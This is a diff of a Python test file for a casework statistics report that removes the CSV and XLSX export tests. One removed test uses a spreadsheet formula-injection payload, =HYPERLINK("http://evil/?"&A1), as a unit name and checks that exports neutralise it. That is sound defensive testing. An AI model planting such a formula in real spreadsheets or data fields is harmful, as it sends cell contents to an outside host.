@@ -1,16 +1,14 @@
-"""The published report: layout, suppression over the whole report, shares, filters, files."""
+"""The published report: layout, suppression over the whole report, shares, filters."""
 
 from __future__ import annotations
 
-import csv
-import io
 from datetime import UTC, date, datetime
 
 import pytest
 from sqlalchemy import select
 
 from casework.extensions import db
-from casework.stats import export, indicators
+from casework.stats import indicators
 from casework.stats.indicators import SUPPRESSED, TOTAL
 from casework.stats.periods import parse
 from casework.stats.suppression import suppress
@@ -133,42 +131,6 @@ def test_a_case_type_filter_only_selects_published_columns(stats_world):
 def test_unknown_case_type_is_refused(stats_world):
     with pytest.raises(ValueError):
         report_for(stats_world.world.app, "01", "2025", case_type="nobody")
-
-
-def test_csv_is_laid_out_like_a_periodic_report(stats_world):
-    report = report_for(stats_world.world.app, "01", "2025")
-    rows = list(csv.reader(io.StringIO(export.report_csv(report).decode("utf-8-sig"))))
-    assert rows[0] == ["Báo cáo thống kê / Statistical report"]
-    assert rows[1] == ["Đơn vị / Unit", "01 Thành phố Hà Nội"]
-    assert rows[2][1].startswith("2025 (2025-01-01")
-    assert any(r[:1] == ["Ký hiệu / Marker"] for r in rows)
-    flat = [v for r in rows for v in r]
-    assert indicators.MARKER in flat
-    assert "primary" not in " ".join(flat) and "complementary" not in " ".join(flat)
-
-
-def test_files_neutralise_formulas(stats_world):
-    from openpyxl import load_workbook
-
-    app = stats_world.world.app
-    with app.app_context():
-        unit = db.session.scalar(select(Unit).where(Unit.code == "00004"))
-        unit.name = '=HYPERLINK("http://evil/?"&A1)'
-        db.session.commit()
-        db.session.remove()
-    report = report_for(app, "01", "2025")
-    text = export.report_csv(report).decode("utf-8-sig")
-    assert "\"'=HYPERLINK" in text
-    assert "\"=HYPERLINK" not in text
-    book = load_workbook(io.BytesIO(export.report_xlsx(report)))
-    assert book.sheetnames[0] == "Thong tin"
-    assert len(book.sheetnames) == 1 + len(report["sections"])
-    sheet = book["new_cases"]
-    labels = [row[0].value for row in sheet.iter_rows()]
-    assert "'=HYPERLINK(\"http://evil/?\"&A1)" in labels
-    for row in sheet.iter_rows():
-        for cell in row:
-            assert cell.data_type != "f"
 
 
 def test_stocks_are_read_on_the_reference_day(stats_world):
